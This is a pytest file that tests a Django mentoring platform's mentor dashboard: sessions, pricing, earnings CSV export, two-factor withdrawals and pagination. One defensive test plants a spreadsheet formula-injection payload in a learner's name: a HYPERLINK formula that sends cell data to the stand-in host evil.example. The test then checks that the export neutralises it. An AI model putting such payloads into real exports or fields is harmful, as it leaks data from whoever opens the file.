"""The mentor's dashboard, section by section, through the real services and the test-mode gateway."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test import override_settings
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from django_otp.oath import totp
from django_otp.plugins.otp_totp.models import TOTPDevice

from core.bookings.models import BookingStatus
from core.bookings.selectors import booking_list_pending_for_mentor
from core.bookings.services import booking_accept
from core.bookings.tests.factories import book_and_pay
from core.dashboards.tests.factories import bookings_bulk
from core.mentoring.models import MentoringSession, SessionStatus
from core.mentoring.tests.factories import approved_mentor, session_make
from core.payments import ledger
from core.payments.models import AccountKind, Withdrawal
from core.room.attendance import session_complete

pytestmark = pytest.mark.django_db


@pytest.fixture
def guru(client):
    mentor = approved_mentor()
    client.force_login(mentor)
    return mentor


def _future_local(days=3, hour=18, zone="Asia/Kolkata"):
    day = timezone.now().astimezone(ZoneInfo(zone)) + timedelta(days=days)
    return day.replace(hour=hour, minute=30, second=0, microsecond=0)


def _form(**changes):
    data = {
        "title": "Master recursion in one hour",
        "description": "For people who know loops.",
        "topics": "Recursion, Stacks",
        "price": "1,000",
        "starts_at": _future_local().strftime("%Y-%m-%dT%H:%M"),
        "duration_minutes": "60",
    }
    data.update(changes)
    return data


def test_create_a_session_in_the_mentors_timezone(client, guru, django_capture_on_commit_callbacks):
    guru.timezone = "Europe/London"
    guru.save(update_fields=["timezone"])
    local = _future_local(zone="Europe/London")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/dashboard/mentor/sessions/new/", _form(starts_at=local.strftime("%Y-%m-%dT%H:%M")))
    assert response.status_code == 302, response.content.decode()[:2000]
    session = MentoringSession.objects.get(mentor=guru)
    assert session.starts_at == local  # the same instant, stored in UTC
    assert (session.price_paise, session.topics, session.duration_minutes) == (100_000, ["Recursion", "Stacks"], 60)
    page = client.get(response["Location"]).content.decode()
    assert "Session live!" in page and "Master recursion in one hour" in page


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"topics": ""}, "Please add topics"),
        ({"price": "ten"}, "Type the price in rupees"),
        ({"price": "50"}, "The price must be between ₹100 and ₹50,000."),
        ({"price": "999.50"}, "Prices are whole rupees, without paise: ₹999.50 is not one."),
        ({"starts_at": "2020-01-01T10:00"}, "The start time must be in the future."),
        ({"title": ""}, "Give the session a title."),
    ],
)
def test_bad_input_re_renders_with_a_message_and_keeps_what_was_typed(client, guru, changes, message):
    response = client.post("/dashboard/mentor/sessions/new/", _form(**changes))
    assert response.status_code == 400
    page = response.content.decode()
    assert message in page
    assert "For people who know loops." in page
    assert not MentoringSession.objects.filter(mentor=guru).exists()


def test_an_overlapping_session_is_refused(client, guru):
    assert client.post("/dashboard/mentor/sessions/new/", _form()).status_code == 302
    response = client.post("/dashboard/mentor/sessions/new/", _form(title="Another"))
    assert response.status_code == 400
    assert "overlaps your session" in response.content.decode()
    assert MentoringSession.objects.filter(mentor=guru).count() == 1


def test_topic_typos_are_suggested_once_then_kept_if_the_mentor_insists(client, guru):
    response = client.post("/dashboard/mentor/sessions/new/", _form(topics="Pyhton"))
    assert response.status_code == 400
    assert "Did you mean <strong>Python</strong>" in response.content.decode()
    response = client.post("/dashboard/mentor/sessions/new/", _form(topics="Pyhton", suggestions_seen="1"))
    assert response.status_code == 302
    assert MentoringSession.objects.get(mentor=guru).topics == ["Pyhton"]


def test_the_price_preview_itemises_the_split(client, guru):
    response = client.get("/dashboard/mentor/sessions/price-preview/?price=1000")
    assert response.content.decode() == "Learner pays ₹1,100 incl. fee · you earn ₹900"
    assert "Type a price" in client.get("/dashboard/mentor/sessions/price-preview/?price=abc").content.decode()
    paise = client.get("/dashboard/mentor/sessions/price-preview/?price=999.50").content.decode()
    assert paise == "Prices are whole rupees, without paise."


def test_the_price_preview_says_how_it_rounds_when_rates_do_not_divide(client, guru):
    with override_settings(PLATFORM_FEE_PERCENT=Decimal("12.5"), MENTOR_SHARE_PERCENT=Decimal("87.5")):
        response = client.get("/dashboard/mentor/sessions/price-preview/?price=999")
    # fee 12.5 % of ₹999 = ₹124.875 → ₹124.88 (half up); share 87.5 % = ₹874.125 → ₹874.12 (down)
    assert response.content.decode() == (
        "Learner pays ₹1,123.88 incl. fee · you earn ₹874.12 (the fee is rounded to the nearest paisa, your share down)"
    )


def test_editing_a_price_to_paise_is_refused(client, guru):
    session = session_make(mentor=guru)
    response = client.post(f"/dashboard/mentor/sessions/{session.pk}/edit/", _form(price="1000.01"))
    assert response.status_code == 400
    assert "Prices are whole rupees, without paise: ₹1,000.01 is not one." in response.content.decode()
    session.refresh_from_db()
    assert session.price_paise == 100_000


def test_edit_and_cancel_an_own_session(client, guru, learner, django_capture_on_commit_callbacks):
    session = session_make(mentor=guru)
    page = client.get(f"/dashboard/mentor/sessions/{session.pk}/edit/").content.decode()
    assert 'value="Intro to Django"' in page
    response = client.post(f"/dashboard/mentor/sessions/{session.pk}/edit/", _form(title="Django, properly"))
    assert response.status_code == 302
    session.refresh_from_db()
    assert session.title == "Django, properly"
    book_and_pay(session, learner)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/dashboard/mentor/sessions/{session.pk}/cancel/")
    assert response.status_code == 302
    session.refresh_from_db()
    assert session.status == SessionStatus.CANCELLED
    assert session.bookings.get().status == BookingStatus.CANCELLED  # released: never charged


def test_another_mentors_session_is_404(client, guru, other_mentor):
    theirs = session_make(mentor=approved_mentor(email="third@example.com"))
    assert client.get(f"/dashboard/mentor/sessions/{theirs.pk}/edit/").status_code == 404
    assert client.post(f"/dashboard/mentor/sessions/{theirs.pk}/cancel/").status_code == 404
    theirs.refresh_from_db()
    assert theirs.status == SessionStatus.ACTIVE


def _earn(guru, learner, django_capture_on_commit_callbacks, *, complete=True):
    session = session_make(mentor=guru, price_paise=100_000)
    booking = book_and_pay(session, learner)
    booking_accept(booking=booking, mentor=guru)
    if complete:
        with django_capture_on_commit_callbacks(execute=True):
            session_complete(session=session)
        _hold_over()
    return session


def _hold_over() -> None:
    """The 48 hours in which the learner may report a problem pass: shares become available."""
    from django.conf import settings

    from core.bookings.services import earnings_release_due

    earnings_release_due(now=timezone.now() + timedelta(hours=settings.EARNINGS_HOLD_HOURS))


def test_home_shows_requests_sessions_and_todays_earnings(client, guru, learner, other_learner,
                                                         django_capture_on_commit_callbacks):  # fmt: skip
    _earn(guru, learner, django_capture_on_commit_callbacks, complete=False)
    waiting = session_make(mentor=guru, title="Waiting one", hours_from_now=48)
    book_and_pay(waiting, other_learner)
    page = client.get("/dashboard/mentor/").content.decode()
    assert "Bilal Learner" in page  # the pending request, with Accept and Reject
    assert "Accept Bilal Learner for Waiting one" in page
    assert "Booked by Asha Learner" in page
    assert 'Earned today</p><p class="stat-card__value">₹900' in page
    assert 'data-nav-badge="pending">1' in page


def test_earnings_statement_pending_then_available_and_csv(client, guru, learner, django_capture_on_commit_callbacks):
    session = _earn(guru, learner, django_capture_on_commit_callbacks, complete=False)
    page = client.get("/dashboard/mentor/earnings/").content.decode()
    assert "₹1,000" in page and "−₹100" in page and "₹900" in page and "Pending" in page
    with django_capture_on_commit_callbacks(execute=True):
        session_complete(session=session)
    page = client.get("/dashboard/mentor/earnings/").content.decode()
    assert "badge--available" not in page  # held while the learner may still report a problem
    assert "pending until 48 hours after the session ends" in page
    _hold_over()
    page = client.get("/dashboard/mentor/earnings/").content.decode()
    assert "badge--available" in page
    response = client.get("/dashboard/mentor/earnings.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:5] == ["Date", "Booking", "Session", "Learner", "Gross (INR)"]
    assert rows[1][2:] == ["Intro to Django", "Asha Learner", "1000.00", "100.00", "900.00", "Available"]


def test_the_earnings_csv_never_carries_a_formula(client, guru, learner, django_capture_on_commit_callbacks):
    """A learner (and a session title) named like a formula lands in earnings.csv as text."""
    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Refund")'
    learner.name = hostile
    learner.save(update_fields=["name"])
    session = session_make(mentor=guru, price_paise=100_000, title="@SUM(A1:A9)")
    booking_accept(booking=book_and_pay(session, learner), mentor=guru)
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/mentor/earnings.csv").content.decode())))
    assert rows[1][2:5] == ["'@SUM(A1:A9)", "'" + hostile, "1000.00"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def _totp_device(user) -> TOTPDevice:
    return TOTPDevice.objects.create(user=user, name="phone", confirmed=True)


def _code(device) -> str:
    return f"{totp(device.bin_key, step=device.step, t0=device.t0, digits=device.digits):06d}"


WITHDRAW = {"destination_kind": "vpa", "account_name": "Meera Mentor", "vpa": "meera@okhdfcbank"}


def test_withdrawals_need_two_factor_first(client, guru, learner, django_capture_on_commit_callbacks):
    _earn(guru, learner, django_capture_on_commit_callbacks)
    page = client.get("/dashboard/mentor/withdrawals/").content.decode()
    assert "Turn on two-factor authentication first" in page
    response = client.post("/dashboard/mentor/withdrawals/", {**WITHDRAW, "amount": "900", "otp_token": "123456"})
    assert response.status_code == 400
    assert not Withdrawal.objects.exists()


def test_a_withdrawal_with_a_right_code(client, guru, learner, django_capture_on_commit_callbacks):
    _earn(guru, learner, django_capture_on_commit_callbacks)
    device = _totp_device(guru)
    page = client.get("/dashboard/mentor/withdrawals/").content.decode()
    assert "Processed within 24 hours" in page and "₹900" in page
    response = client.post("/dashboard/mentor/withdrawals/", {**WITHDRAW, "amount": "1000", "otp_token": _code(device)})
    assert response.status_code == 400
    assert "You can withdraw at most ₹900 right now." in response.content.decode()
    response = client.post("/dashboard/mentor/withdrawals/", {**WITHDRAW, "amount": "900", "otp_token": "000000"})
    assert "That code is not right." in response.content.decode()
    device.refresh_from_db()
    device.last_t = -1  # let the same time step's code be used again in this test
    device.throttle_reset(commit=False)  # and lift the back-off the wrong code caused
    device.save()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/dashboard/mentor/withdrawals/", {**WITHDRAW, "amount": "900", "otp_token": _code(device)}
        )
    assert response.status_code == 302
    withdrawal = Withdrawal.objects.get(user=guru)
    assert (withdrawal.amount_paise, withdrawal.vpa) == (90_000, "meera@okhdfcbank")
    assert ledger.balance(kind=AccountKind.MENTOR_AVAILABLE, user=guru) == 0
    page = client.get("/dashboard/mentor/withdrawals/").content.decode()
    assert "UPI meera@okhdfcbank" in page


def test_bad_destination_is_explained(client, guru, learner, django_capture_on_commit_callbacks):
    _earn(guru, learner, django_capture_on_commit_callbacks)
    device = _totp_device(guru)
    response = client.post(
        "/dashboard/mentor/withdrawals/",
        {"destination_kind": "bank_account", "account_name": "Meera", "ifsc": "HDFC123", "account_number": "12",
         "amount": "500", "otp_token": _code(device)},
    )  # fmt: skip
    assert response.status_code == 400
    assert "IFSC" in response.content.decode()
    assert not Withdrawal.objects.exists()


def test_analytics_is_honest_when_empty_and_real_when_not(client, guru, learner, django_capture_on_commit_callbacks):
    page = client.get("/dashboard/mentor/analytics/").content.decode()
    assert "No data yet" in page and "analytics-data" not in page
    _earn(guru, learner, django_capture_on_commit_callbacks)
    page = client.get("/dashboard/mentor/analytics/").content.decode()
    assert 'id="analytics-data"' in page
    response = client.get("/dashboard/mentor/analytics/")
    assert response.context["total_bookings"] == 1
    assert response.context["chart_data"]["earnings"][-1] == "900.00"
    assert sum(response.context["chart_data"]["hours"]) == 1


SECTIONS = [
    "/dashboard/mentor/",
    "/dashboard/mentor/sessions/",
    "/dashboard/mentor/bookings/",
    "/dashboard/mentor/earnings/",
    "/dashboard/mentor/withdrawals/",
    "/dashboard/mentor/analytics/",
    "/dashboard/mentor/sessions/new/",
]


def test_no_sections_query_count_grows_from_10_to_1000_bookings(client, guru, django_assert_max_num_queries):
    bookings_bulk(mentor=guru, count=10)
    bookings_bulk(mentor=guru, count=3, status=BookingStatus.PENDING)
    few = {}
    for url in SECTIONS:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        few[url] = len(queries)
    bookings_bulk(mentor=guru, count=1000)
    bookings_bulk(mentor=guru, count=30, status=BookingStatus.PENDING)
    for url in SECTIONS:
        with django_assert_max_num_queries(few[url]):
            assert client.get(url).status_code == 200, url


def test_home_shows_the_five_soonest_requests_and_links_to_all_of_them(client, guru):
    bookings_bulk(mentor=guru, count=8, status=BookingStatus.PENDING)
    soonest = booking_list_pending_for_mentor(mentor=guru)
    home = client.get("/dashboard/mentor/").content.decode()
    shown = re.findall(r'action="/bookings/(\d+)/accept/"', home)
    assert [int(pk) for pk in shown] == [row.id for row in soonest[:5]]
    assert "The 5 soonest of 8 requests" in home
    assert 'href="/dashboard/mentor/bookings/"' in home.split('data-testid="pending-more"')[1].split("</p>")[0]
    bookings_page = client.get("/dashboard/mentor/bookings/").content.decode()
    assert len(re.findall(r'action="/bookings/(\d+)/accept/"', bookings_page)) == 8  # all of them, up to 20
    assert 'data-testid="pending-more"' not in bookings_page


def test_a_saved_payout_account_makes_a_withdrawal_amount_and_code(client, guru, learner,
                                                                 django_capture_on_commit_callbacks):  # fmt: skip
    from core.users.services import payout_destination_update

    _earn(guru, learner, django_capture_on_commit_callbacks)
    payout_destination_update(
        mentor=guru, kind="bank_account", account_name="Meera Mentor", ifsc="HDFC0001234", account_number="123456789012"
    )
    device = _totp_device(guru)
    page = client.get("/dashboard/mentor/withdrawals/").content.decode()
    assert "Saved: Bank account ••••9012 (HDFC0001234)" in page
    assert "123456789012" not in page  # the whole number never goes back to the browser
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/dashboard/mentor/withdrawals/", {"destination_kind": "saved", "amount": "500", "otp_token": _code(device)}
        )
    assert response.status_code == 302
    withdrawal = Withdrawal.objects.get(user=guru)
    assert (withdrawal.destination_kind, withdrawal.ifsc, withdrawal.account_number) == (
        "bank_account",
        "HDFC0001234",
        "123456789012",
    )


def test_long_lists_come_a_page_at_a_time(client, guru):
    bookings_bulk(mentor=guru, count=30)
    first = client.get("/dashboard/mentor/bookings/")
    assert len(first.context["page"].object_list) == 25
    assert 'rel="next" href="?page=2"' in first.content.decode()
    second = client.get("/dashboard/mentor/bookings/?page=2")
    assert len(second.context["page"].object_list) == 5
    assert client.get("/dashboard/mentor/bookings/?page=nonsense").context["page"].number == 1
    statement = client.get("/dashboard/mentor/earnings/?page=9")  # past the end: the last page
    assert (statement.context["page"].number, len(statement.context["page"].object_list)) == (2, 5)
    assert len(list(csv.reader(io.StringIO(client.get("/dashboard/mentor/earnings.csv").content.decode())))) == 31


def test_past_sessions_show_however_many_are_still_to_come(client, guru):
    """Past sessions used to be the 50 latest starts with the upcoming ones filtered out after the
    query: 50 sessions still to come left "Past and cancelled" empty."""
    bookings_bulk(mentor=guru, count=55, days_from_now=3)
    bookings_bulk(mentor=guru, count=27, days_from_now=-20, session_status=SessionStatus.COMPLETED)
    client.force_login(guru)
    first = client.get("/dashboard/mentor/sessions/")
    assert (len(first.context["upcoming"].object_list), first.context["upcoming"].paginator.count) == (10, 55)
    assert (len(first.context["page"].object_list), first.context["page"].paginator.count) == (25, 27)
    assert all(row.status == SessionStatus.COMPLETED for row in first.context["page"].object_list)
    html = first.content.decode()
    assert 'aria-label="Pages of past sessions"' in html and 'aria-label="Pages of upcoming sessions"' in html
    assert 'rel="next" href="?upcoming=2"' in html and 'rel="next" href="?page=2"' in html
    # Each list turns its own pages and keeps the other where it is.
    second = client.get("/dashboard/mentor/sessions/?upcoming=6&page=2")
    assert len(second.context["page"].object_list) == 2
    assert [row.starts_at for row in second.context["upcoming"].object_list] == sorted(
        row.starts_at for row in second.context["upcoming"].object_list
    )
    assert len(second.context["upcoming"].object_list) == 5  # 55 = 5 pages of 10 and one of 5
    html = second.content.decode()
    assert 'rel="prev" href="?upcoming=5&amp;page=2"' in html and 'rel="prev" href="?upcoming=6&amp;page=1"' in html
    everything = set()
    for number in range(1, 7):
        everything |= {
            row.id for row in client.get(f"/dashboard/mentor/sessions/?upcoming={number}").context["upcoming"]
        }
    assert len(everything) == 55  # no session twice, none lost


def test_a_partly_refunded_earning_shows_what_the_mentor_kept(
    client, guru, learner, staff, django_capture_on_commit_callbacks
):
    from core.bookings.disputes import dispute_open, dispute_settle
    from core.bookings.models import Booking, DisputeSource, DisputeStatus

    session = _earn(guru, learner, django_capture_on_commit_callbacks, complete=False)
    session_complete(session=session)
    booking = Booking.objects.get(learner=learner)
    dispute, _ = dispute_open(booking=booking, learner=learner, reason="Short", source=DisputeSource.BOOKING_PAGE)
    dispute_settle(
        dispute=dispute, by=staff, decision=DisputeStatus.PARTIALLY_REFUNDED, note="Half", refund_paise=55_000
    )
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/mentor/earnings.csv").content.decode())))
    assert rows[1][-2:] == ["450.00", "Available"]  # ₹900 less the ₹450 taken back in proportion
    page = client.get("/dashboard/mentor/").content.decode()
    assert "Moves to available 48 hours after the session ends" in page


def test_an_empty_post_of_a_form_says_what_is_missing(client, guru, staff):
    """An empty POST used to leave the form unbound: a 400 page with no message at all."""
    client.force_login(guru)
    response = client.post("/dashboard/mentor/sessions/new/", {})
    assert response.status_code == 400
    assert "This field is required." in response.content.decode()
